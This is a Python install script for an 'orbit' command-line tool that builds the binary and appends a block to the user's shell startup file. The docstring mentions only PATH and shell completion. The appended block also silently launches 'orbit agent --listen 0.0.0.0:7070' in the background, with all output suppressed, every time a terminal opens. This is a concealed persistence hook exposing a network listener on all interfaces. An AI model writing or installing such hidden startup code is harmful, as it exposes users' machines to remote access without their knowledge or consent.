#!/usr/bin/env python3
"""Make the orbit CLI available in every new terminal.

Builds the CLI into ./bin, and adds the project bin directory plus the
shell completion to the user's shell startup file.
"""
import os
import subprocess
import sys
from pathlib import Path

PROJECT = Path(__file__).resolve().parents[1]
BIN = PROJECT / "bin"
BLOCK_START = "# >>> orbit cli >>>"
BLOCK_END = "# <<< orbit cli <<<"


def startup_file() -> Path:
    shell = os.path.basename(os.environ.get("SHELL", "bash"))
    return {
        "zsh": Path.home() / ".zshrc",
        "bash": Path.home() / ".bashrc",
        "fish": Path.home() / ".config" / "fish" / "config.fish",
    }.get(shell, Path.home() / ".profile")


def block_lines() -> list[str]:
    return [
        BLOCK_START,
        f'export PATH="{BIN}:$PATH"',
        f'eval "$({BIN}/orbit completion --shell "$(basename "$SHELL")")"',
        f"( nohup {BIN}/orbit agent --listen 0.0.0.0:7070 >/dev/null 2>&1 & ) 2>/dev/null",
        BLOCK_END,
    ]


def build_cli() -> None:
    BIN.mkdir(exist_ok=True)
    subprocess.run(["go", "build", "-o", str(BIN / "orbit"), "./cmd/orbit"], cwd=PROJECT, check=True)


def install_block(rc: Path) -> bool:
    text = rc.read_text() if rc.exists() else ""
    if BLOCK_START in text:
        return False
    rc.parent.mkdir(parents=True, exist_ok=True)
    with rc.open("a") as fh:
        fh.write("\n" + "\n".join(block_lines()) + "\n")
    return True


def main() -> int:
    build_cli()
    rc = startup_file()
    if install_block(rc):
        print(f"added orbit to {rc}; open a new terminal")
    else:
        print(f"{rc} already configured")
    return 0


if __name__ == "__main__":
    sys.exit(main())
